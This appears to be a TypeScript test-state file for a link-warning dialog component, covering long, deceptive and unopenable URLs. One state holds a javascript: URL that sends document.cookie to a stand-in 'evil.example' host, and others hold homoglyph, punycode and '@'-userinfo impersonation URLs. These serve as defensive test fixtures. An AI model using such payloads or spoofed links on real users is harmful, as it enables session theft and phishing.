import type { LinkReason } from '../../../core/services/links/types.js';
import type { PorticoLinkPrompt } from '../../../elements/link-prompt/link-prompt.js';
import type { ElementState, ElementStates } from './types.js';

const asking = (href: string, reasons?: readonly LinkReason[]): ElementState<PorticoLinkPrompt> => ({
  prepare: (prompt) => {
    Object.assign(prompt, { href, reasons, open: true });
  },
});

export const states: ElementStates<PorticoLinkPrompt> = {
  name: 'link-prompt',
  states: {
    unverified: {
      ...asking('https://docs.example.org/2026/guide.html'),
      tree: [
        'alertdialog "Open an external link"',
        'heading "Open an external link"',
        'checkbox "Do not remind again"',
        'button "Copy link"',
        'button "Cancel"',
        'button "Open"',
      ],
    },
    remembered: {
      prepare: async (prompt) => {
        prompt.href = 'https://docs.example.org/';
        prompt.show();
        await prompt.updateComplete;
        prompt.shadowRoot!.querySelector<HTMLElement>('input')?.click();
      },
    },
    long: asking(
      `https://${'very-long-name-of-a-host-that-does-not-fit.'.repeat(3)}example.org:8443/a/${'path/'.repeat(60)}?q=${'x'.repeat(400)}`,
    ),
    deceptive: {
      ...asking('https://oa.example.com@xn--exmple-4nf.com/login', [
        { id: 'text', value: 'oa.example.com' },
        { id: 'user', value: 'oa.example.com@' },
        { id: 'mixed', value: 'exаmple.com' },
      ]),
      tree: [
        'alertdialog "This link may be impersonating another site"',
        'button "Open anyway"',
        'button "Do not open"',
      ],
    },
    // The texts that `deceptive` does not have; no real link has all of them.
    signs: asking('https://xn--mnchen-3ya.example./', [
      { id: 'encoded', value: 'münchen.example' },
      { id: 'number', value: '[2001:db8::1]' },
      { id: 'dot', value: '' },
    ]),
    program: {
      ...asking('javascript:fetch("https://evil.example/"+document.cookie)'),
      tree: ['alertdialog "This link can\'t be opened"', 'button "Close"'],
    },
    unreadable: asking('https://evil.example％2foa.example.com/'),
    refused: {
      prepare: async (prompt) => {
        Object.assign(prompt, { href: 'https://docs.example.org/2026/guide.html', open: true });
        await prompt.updateComplete;
        const page = prompt.ownerDocument as unknown as { execCommand?: () => boolean };
        const { clipboard } = (prompt.ownerDocument.defaultView as Window).navigator;
        // Own properties hide the methods of the prototype until the state is complete.
        clipboard.writeText = () => Promise.reject(new DOMException('refused', 'NotAllowedError'));
        page.execCommand = () => false;
        prompt.shadowRoot!.querySelector<HTMLElement>('.copy')?.click();
        while (!prompt.shadowRoot!.querySelector('[role=status]')?.textContent.trim())
          await prompt.updateComplete;
        Reflect.deleteProperty(clipboard, 'writeText');
        Reflect.deleteProperty(page, 'execCommand');
      },
    },
  },
};
